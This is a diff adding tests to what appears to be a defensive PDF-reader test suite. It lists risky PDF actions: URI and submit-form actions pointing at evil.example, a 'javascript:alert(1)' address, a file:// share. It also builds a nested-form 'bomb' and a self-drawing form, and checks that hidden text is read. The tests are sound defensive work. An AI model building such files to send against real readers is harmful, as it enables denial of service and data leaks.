@@ -25,6 +25,14 @@ ACTS = {
     "event": {"/AA": Dictionary(WC=SCRIPT)},
     "deep": {"/X": Array([Array([Dictionary(Y=Array([SCRIPT]))])])},
     "other file": {"/OpenAction": Dictionary(S=Name.GoToR, F=String("//evil.example/a.pdf"))},
+    "open a page of the web": {"/OpenAction": Dictionary(S=Name.URI, URI=String("https://evil.example"))},
+    "unknown action": {"/X": Dictionary(A=Dictionary(S=Name("/Later")))},
+    "script as address": {"/X": Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))},
+    "another machine's disk": {"/X": Dictionary(S=Name.URI, URI=String("file://server/share"))},
+    "associated file": {"/AF": Array([Dictionary(Type=Name.Filespec)])},
+    "portfolio": {"/Collection": Dictionary()},
+    "scene": {"/X": Dictionary(Subtype=Name("/3D"))},
+    "layer": {"/X": Dictionary(S=Name.SetOCGState)},
     "send": {"/X": Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))},
 }
 
@@ -96,3 +104,60 @@ def test_plain_values_may_be_objects_of_their_own(plain: bytes) -> None:
     data += b"9 0 obj\n" + plain + b"\nendobj\nxref\n" + end
     assert b"/Kept 9 0 R" in data
     assert "Plan" in read_pdf(data).text
+
+
+def bomb(times: int, depth: int) -> bytes:
+    """A page that draws a form that draws another one, and so on, each several times."""
+    document = pikepdf.new()
+    page = document.add_blank_page()
+    inner: pikepdf.Object | None = None
+    for _ in range(depth):
+        form = pikepdf.Stream(
+            document,
+            b"q Q" if inner is None else b"/#58 Do " * times,
+            {"/Subtype": Name.Form, "/BBox": Array([0, 0, 9, 9])},
+        )
+        if inner is not None:
+            form.Resources = Dictionary(XObject=Dictionary(X=inner))
+        inner = document.make_indirect(form)
+    page.Resources = Dictionary(XObject=Dictionary(X=inner))
+    page.Contents = pikepdf.Stream(document, b"/X Do " * times)
+    return saved(document)
+
+
+def test_forms_in_forms_are_counted_before_they_are_drawn() -> None:
+    start = time.process_time()
+    assert refused(bomb(10, 9)) == "T527"
+    assert time.process_time() - start < 1
+    assert read_pdf(bomb(3, 3)).pages == 1
+
+
+def test_pages_that_share_what_they_draw_are_counted_each() -> None:
+    document = pikepdf.open(io.BytesIO(pdf("Plan")))
+    document.pages[0].Contents = document.make_indirect(pikepdf.Stream(document, b"q Q " * 100_000))
+    for _ in range(300):
+        document.pages.append(document.pages[0])
+    assert refused(saved(document)) == "T527"
+
+
+def test_a_form_that_draws_itself_is_refused() -> None:
+    document = pikepdf.new()
+    page = document.add_blank_page()
+    form = document.make_indirect(pikepdf.Stream(document, b"/X Do", {"/Subtype": Name.Form}))
+    form.Resources = Dictionary(XObject=Dictionary(X=form))
+    page.Resources, page.Contents = Dictionary(XObject=Dictionary(X=form)), pikepdf.Stream(document, b"/X Do")
+    assert refused(saved(document)) == "T527"
+
+
+@pytest.mark.parametrize("key", ["V", "Contents", "Title", "Author", "Alt"])
+def test_words_beside_the_pages_are_read_too(key: str) -> None:
+    document = pikepdf.open(io.BytesIO(pdf("Plan")))
+    document.Root.X = document.make_indirect(Dictionary(Y=Array([Dictionary({f"/{key}": String("ลับ 1")})])))
+    read = read_pdf(saved(document))
+    assert read.beside == "ลับ 1" and "ลับ" not in read.text
+
+
+def test_words_outside_the_shown_part_of_a_page_are_read() -> None:
+    document = pikepdf.open(io.BytesIO(pdf("Hidden")))
+    document.pages[0].CropBox = Array([0, 200, 300, 300])
+    assert "Hidden" in read_pdf(saved(document)).text
